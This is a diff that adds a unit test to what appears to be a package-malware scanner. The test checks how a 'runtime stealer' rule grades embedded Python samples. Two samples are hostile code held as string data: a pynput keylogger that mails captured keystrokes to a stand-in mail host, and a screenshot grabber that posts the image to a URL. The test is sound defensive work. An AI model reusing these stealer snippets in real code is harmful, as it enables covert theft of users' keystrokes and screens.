@@ -301,6 +301,53 @@ static void test_rules_behave__self_attribute_taint(void **state)
 		-1);
 }
 
+/* ---- cred.runtime-stealer ------------------------------------------------ */
+
+static void test_rules_behave__runtime_stealer(void **state)
+{
+	(void)state;
+	/* a keylogger that mails what it caught: high even at runtime */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/sec.py",
+			 "import smtplib\n"
+			 "from pynput import keyboard\n"
+			 "keys = []\n"
+			 "def on_press(k):\n    keys.append(k)\n"
+			 "def collect():\n"
+			 "    with keyboard.Listener(on_press=on_press) as l:\n"
+			 "        l.join()\n"
+			 "def send():\n"
+			 "    s = smtplib.SMTP('mail.example.invalid', 587)\n"
+			 "    s.sendmail('a', 'b', ''.join(keys))\n",
+			 LG_RULE_RUNTIME_STEALER),
+		LG_SEV_HIGH);
+	/* a screenshot sent from code nothing calls at import: lowered */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/shot.py",
+			 "import requests\n"
+			 "from PIL import ImageGrab\n"
+			 "def shot():\n"
+			 "    ImageGrab.grab().save('s.png')\n"
+			 "    requests.post(URL, files={'f': open('s.png', 'rb')})\n",
+			 LG_RULE_RUNTIME_STEALER),
+		LG_SEV_MEDIUM);
+	/* near misses: a hotkey tool without network; a screenshot tool */
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/hot.py",
+			 "from pynput import keyboard\n"
+			 "def watch(cb):\n"
+			 "    with keyboard.Listener(on_press=cb) as l:\n"
+			 "        l.join()\n",
+			 LG_RULE_RUNTIME_STEALER),
+		-1);
+	assert_int_equal(
+		scan_sev("pkg-1.0/pkg/snap.py",
+			 "import pyautogui\n"
+			 "def snap(p):\n    pyautogui.screenshot(p)\n",
+			 LG_RULE_RUNTIME_STEALER),
+		-1);
+}
+
 /* ---- proc.import-process ------------------------------------------------- */
 
 static void test_rules_behave__import_process(void **state)
@@ -1061,6 +1108,7 @@ int test_rules_behave_group(void)
 		cmocka_unit_test(test_rules_behave__remote_code),
 		cmocka_unit_test(test_rules_behave__download_exec),
 		cmocka_unit_test(test_rules_behave__self_attribute_taint),
+		cmocka_unit_test(test_rules_behave__runtime_stealer),
 		cmocka_unit_test(test_rules_behave__import_process),
 		cmocka_unit_test(test_rules_behave__import_process_near_misses),
 		cmocka_unit_test(test_rules_behave__download_script),
